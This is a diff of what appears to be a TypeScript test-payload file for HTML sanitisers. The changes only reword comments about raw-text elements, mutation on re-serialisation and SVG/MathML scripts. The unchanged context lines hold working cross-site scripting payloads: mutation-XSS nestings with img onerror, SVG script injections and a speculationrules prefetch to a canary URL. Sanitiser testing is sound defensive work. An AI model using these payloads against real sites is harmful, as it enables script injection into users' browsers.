@@ -1,8 +1,8 @@
-// What a cleaner reads differently from a page: content of another kind, namespaces, and text that changes
-// when it is written out again.
+// Differences between a sanitiser's parser and a page's: foreign content, namespaces, and text that changes
+// when serialised.
 import { CANARY, crossed, words, type Payload } from './payload.ts'
 
-/** Inside of these a parser reads text until their end, or does not, depending on who reads. */
+/** Some parsers read the content of these as text until their end, others do not. */
 const RAW = words(
   'style script xmp iframe noembed noframes noscript plaintext textarea title template listing select option optgroup',
 )
@@ -44,7 +44,7 @@ const COMMENTS: readonly Payload[] = [
   js => `<p title="&amp;lt;img src=x onerror=${js}&amp;gt;">x</p>`,
 ]
 
-/** Written out and read again these become something else. */
+/** Serialised and parsed again these become something else. */
 const MUTATING: readonly Payload[] = [
   js => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
   js => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=${js}>">`,
@@ -115,7 +115,7 @@ const MUTATING: readonly Payload[] = [
   () => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${CANARY}/s"]}]}</script>`,
 ]
 
-/** Drawings and formulas with scripts of their own. */
+/** SVG and MathML with scripts of their own. */
 const DRAWN: readonly Payload[] = [
   js => `<svg><script>${js}</script></svg>`,
   js => `<svg><script>${js.replace('(', '&#40;').replace(')', '&#41;')}</script></svg>`,
